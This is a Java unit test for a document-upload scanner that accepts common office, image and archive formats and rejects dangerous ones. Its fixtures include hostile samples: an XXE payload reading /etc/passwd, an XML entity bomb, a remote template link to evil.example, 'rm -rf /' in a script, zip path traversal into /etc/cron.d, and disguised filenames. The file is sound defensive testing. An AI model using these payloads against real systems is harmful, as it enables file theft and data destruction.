package io.chancery.infra.documents;

import static org.assertj.core.api.Assertions.assertThat;

import io.chancery.infra.documents.Verdict.Accepted;
import io.chancery.infra.documents.Verdict.Refused;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.EnumSet;
import java.util.Random;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/// Through real processes, as in operation.
class ReadingProcessesTest {

    private static final String PHRASE = "quarterly settlement conference";

    @TempDir
    static Path folder;

    private static ReadingProcesses processes;

    @BeforeAll
    static void start() {
        processes = new ReadingProcesses(folder.resolve("readers"), TestDocuments.properties(folder));
    }

    @AfterAll
    static void stop() {
        processes.close();
    }

    static Stream<Arguments> good() throws Exception {
        var text = PHRASE;
        return Stream.of(
                Arguments.of("a.pdf", "application/pdf", Corpus.pdf(text), FileKind.PDF, text),
                Arguments.of("a.docx", "", Corpus.word(text), FileKind.WORD, text),
                Arguments.of("a.xlsx", "application/vnd.ms-excel", Corpus.sheet(text), FileKind.SHEET, text),
                Arguments.of("a.xls", "", Corpus.oldSheet(text), FileKind.OLD_SHEET, text),
                Arguments.of("a.pptx", "", Corpus.slides(text), FileKind.SLIDES, text),
                Arguments.of("a.odt", "", Corpus.openText(text), FileKind.OPEN_TEXT, text),
                Arguments.of(
                        "a.rtf",
                        "text/rtf",
                        Corpus.text("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\\pard\\f0 " + text + "\\par}"),
                        FileKind.RICH_TEXT,
                        text),
                Arguments.of("a.txt", "text/plain", Corpus.text(text), FileKind.TEXT, text),
                Arguments.of("a.csv", "application/vnd.ms-excel", Corpus.text("a,b\n1," + text), FileKind.TEXT, text),
                Arguments.of(
                        "a.xml",
                        "text/xml",
                        Corpus.text("<?xml version=\"1.0\"?><a>" + text + "</a>"),
                        FileKind.XML,
                        text),
                Arguments.of("a.eml", "", Corpus.mail(text, "b.pdf", Corpus.pdf("x")), FileKind.MAIL, text),
                Arguments.of(
                        "words of it.eml", "", Corpus.mail("see it", "b.pdf", Corpus.pdf(text)), FileKind.MAIL, text),
                Arguments.of("a.png", "image/png", Pictures.of("png"), FileKind.PNG, ""),
                Arguments.of("a.jpeg", "image/jpeg", Pictures.of("jpg"), FileKind.JPEG, ""),
                Arguments.of("a.gif", "", Pictures.of("gif"), FileKind.GIF, ""),
                Arguments.of("a.tif", "", Pictures.of("tif"), FileKind.TIFF, ""),
                Arguments.of(
                        "a.zip",
                        "application/x-zip-compressed",
                        Corpus.zip("b.txt", "b", "c/d.pdf", Corpus.pdf("d")),
                        FileKind.ARCHIVE,
                        ""),
                Arguments.of("three deep.zip", "", Corpus.nested(3), FileKind.ARCHIVE, ""));
    }

    @ParameterizedTest(name = "{0} is kept as {3}")
    @MethodSource("good")
    void readsWhatIsGood(String name, String declared, byte[] content, FileKind kind, String text) throws IOException {
        var verdict = examine(name, declared, content, ExaminingRules.usual());

        assertThat(verdict).isInstanceOfSatisfying(Accepted.class, accepted -> {
            assertThat(accepted.kind()).isEqualTo(kind);
            assertThat(accepted.reading().text()).contains(text);
            assertThat(accepted.warnings()).isEmpty();
        });
    }

    static Stream<Arguments> bad() throws Exception {
        var laughs = "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\">]><l>&b;</l>";
        var stealing = "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><l>&a;</l>";
        var template = """
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"
                Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
                Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>""";
        return Stream.of(
                bad("program.exe", Corpus.program(), Objection.EXECUTABLE),
                bad("program named as paper.pdf", Corpus.program(), Objection.EXECUTABLE),
                bad("text named as program.exe", Corpus.text("hello"), Objection.EXECUTABLE),
                bad("invoice\u202Efdp.exe", Corpus.text("hello"), Objection.EXECUTABLE),
                bad("link.lnk", Corpus.text("hello"), Objection.EXECUTABLE),
                bad("shell.txt", Corpus.text("#!/bin/sh\nrm -rf /\n"), Objection.SCRIPT),
                bad("page.html", Corpus.text("<html><body>x</body></html>"), Objection.SCRIPT),
                bad(
                        "page named as text.txt",
                        Corpus.text("<!DOCTYPE html><html><script>1</script></html>"),
                        Objection.SCRIPT),
                bad("drawing.svg", Corpus.text("<svg xmlns=\"http://www.w3.org/2000/svg\"/>"), Objection.SCRIPT),
                bad("macro.js", Corpus.text("alert(1)"), Objection.SCRIPT),
                bad("paper.docx", Corpus.pdf("x"), Objection.OTHER_TYPE),
                bad("text.pdf", Corpus.text("hello"), Objection.OTHER_TYPE),
                bad("sound.mp3", Corpus.text("ID3\u0003\0\0\0\0\0\0"), Objection.NOT_ON_LIST),
                bad("empty.pdf", new byte[0], Objection.EMPTY),
                bad("locked.pdf", Corpus.lockedPdf(), Objection.ENCRYPTED),
                bad("locked.docx", Corpus.lockedWord(), Objection.ENCRYPTED),
                bad("locked.zip", Corpus.lockedZip(), Objection.ENCRYPTED),
                bad("locked within.zip", Corpus.zip("a.pdf", Corpus.lockedPdf()), Objection.ENCRYPTED),
                bad("script.pdf", Corpus.pdfWithAction("JavaScript"), Objection.ACTIVE_CONTENT),
                bad("launch.pdf", Corpus.pdfWithAction("Launch"), Objection.ACTIVE_CONTENT),
                bad("form.pdf", Corpus.pdfWithXfa(), Objection.ACTIVE_CONTENT),
                bad("macros.docm", Corpus.with(Corpus.word("x"), "word/vbaProject.bin", "x"), Objection.MACROS),
                bad("macros.docx", Corpus.with(Corpus.word("x"), "word/vbaProject.bin", "x"), Objection.MACROS),
                bad(
                        "old macros.xlsx",
                        Corpus.with(Corpus.sheet("x"), "xl/macrosheets/sheet1.xml", "<a/>"),
                        Objection.MACROS),
                bad(
                        "macros.odt",
                        Corpus.with(Corpus.openText("x"), "Basic/Standard/Module1.xml", "<a/>"),
                        Objection.MACROS),
                bad(
                        "template.docx",
                        Corpus.with(Corpus.word("x"), "word/_rels/settings.xml.rels", template),
                        Objection.ACTIVE_CONTENT),
                bad(
                        "object.docx",
                        Corpus.with(Corpus.word("x"), "word/embeddings/oleObject1.bin", "x"),
                        Objection.ACTIVE_CONTENT),
                bad(
                        "object.rtf",
                        Corpus.text("{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}"),
                        Objection.ACTIVE_CONTENT),
                bad("attached program.eml", Corpus.mail("see", "run.exe", Corpus.program()), Objection.EXECUTABLE),
                bad(
                        "attached in disguise.eml",
                        Corpus.mail("see", "paper.pdf", Corpus.program()),
                        Objection.EXECUTABLE),
                bad(
                        "program within.zip",
                        Corpus.zip("a.txt", "a", "b/run.exe", Corpus.program()),
                        Objection.EXECUTABLE),
                bad("outside.zip", Corpus.zip("../../etc/cron.d/x.txt", "x"), Objection.BAD_PATHS),
                bad("absolute.zip", Corpus.zip("/etc/x.txt", "x"), Objection.BAD_PATHS),
                bad("four deep.zip", Corpus.nested(4), Objection.NESTED_TOO_DEEP),
                bad("bomb.zip", Corpus.zipBomb(), Objection.BOMB),
                bad("bomb within.zip", Corpus.zip("a.zip", Corpus.zipBomb()), Objection.BOMB),
                bad("bomb.pdf", Corpus.pdfBomb(), Objection.BOMB),
                bad("laughs.xml", Corpus.text(laughs), Objection.BOMB),
                bad("stealing.xml", Corpus.text(stealing), Objection.BOMB),
                bad("laughing.docx", Corpus.with(Corpus.word("x"), "word/document.xml", laughs), Objection.BOMB),
                bad("huge.png", Pictures.hugePicture(), Objection.TOO_MANY_PIXELS),
                bad(
                        "picture and archive.gif",
                        Corpus.join(Pictures.of("gif"), Corpus.zip("a.class", "x")),
                        Objection.POLYGLOT),
                bad(
                        "picture and page.jpg",
                        Corpus.join(Pictures.of("jpg"), Corpus.text("<script>alert(1)</script>")),
                        Objection.POLYGLOT),
                bad(
                        "paper and archive.pdf",
                        Corpus.join(Corpus.pdf("x"), Corpus.zip("a.class", "x")),
                        Objection.POLYGLOT),
                bad("half.pdf", Corpus.text("%PDF-1.7\n1 0 obj\n<<"), Objection.COULD_NOT_BE_READ),
                bad("half.png", Corpus.half(Pictures.of("png")), Objection.COULD_NOT_BE_READ));
    }

    private static Arguments bad(String name, byte[] content, Objection objection) {
        return Arguments.of(name, content, objection);
    }

    @ParameterizedTest(name = "{0}: {2}")
    @MethodSource("bad")
    void refusesWhatIsBadAndSaysWhy(String name, byte[] content, Objection objection) throws IOException {
        assertThat(examine(name, "", content, ExaminingRules.usual()))
                .isInstanceOfSatisfying(
                        Refused.class,
                        refused -> assertThat(refused.objection()).isEqualTo(objection));
    }

    @Test
    void refusesWhatIsDeclaredAsSomethingElse() throws IOException {
        assertThat(examine("a.pdf", "image/png", Corpus.pdf("x"), ExaminingRules.usual()))
                .isEqualTo(new Refused(Objection.OTHER_TYPE, "application/pdf"));
    }

    @Test
    void keepsActiveContentWithAWarningWhereTheFirmSaysSo() throws IOException {
        var rules = new ExaminingRules(EnumSet.allOf(FileKind.class), Set.of(Objection.MACROS));
        var macros = Corpus.with(Corpus.word("x"), "word/vbaProject.bin", "x");

        assertThat(examine("a.docm", "", macros, rules))
                .isInstanceOfSatisfying(
                        Accepted.class,
                        accepted -> assertThat(accepted.warnings()).containsExactly(Objection.MACROS));
        assertThat(examine("a.pdf", "", Corpus.pdfWithAction("Launch"), rules)).isInstanceOf(Refused.class);
    }

    @Test
    void refusesKindsThatAreNotOnTheFirmsList() throws IOException {
        var rules = new ExaminingRules(EnumSet.of(FileKind.PDF), Set.of());

        assertThat(examine("a.docx", "", Corpus.word("x"), rules))
                .isInstanceOfSatisfying(
                        Refused.class,
                        refused -> assertThat(refused.objection()).isEqualTo(Objection.NOT_ON_LIST));
    }

    @Test
    void keepsNoMoreTextThanIsSearched() throws IOException {
        var verdict = examine("long.txt", "", Corpus.text("word ".repeat(200_000)), ExaminingRules.usual());

        assertThat(verdict).isInstanceOfSatisfying(Accepted.class, accepted -> {
            assertThat(accepted.reading().whole()).isFalse();
            assertThat(accepted.reading().text().length()).isBetween(300_000, 410_000);
        });
    }

    @Test
    void survivesWhatChanceMakesOfEveryKind() throws Exception {
        var random = new Random(7);
        for (var one : good().toList()) {
            var name = (String) one.get()[0];
            var content = ((byte[]) one.get()[2]).clone();
            for (int n = 0; n < content.length / 50 + 3; n++) {
                content[random.nextInt(content.length)] = (byte) random.nextInt(256);
            }
            assertThat(examine(name, "", content, ExaminingRules.usual())).isNotNull();
            assertThat(examine(name, "", Corpus.half(content), ExaminingRules.usual()))
                    .isNotNull();
        }
    }

    private static Verdict examine(String name, String declared, byte[] content, ExaminingRules rules)
            throws IOException {
        var file = file(content);
        try {
            return processes.examine(file, FileName.sent(name), declared, rules);
        } finally {
            Files.delete(file);
        }
    }

    private static Path file(byte[] content) throws IOException {
        return Files.write(Files.createTempFile(folder, "sent", ".part"), content);
    }
}
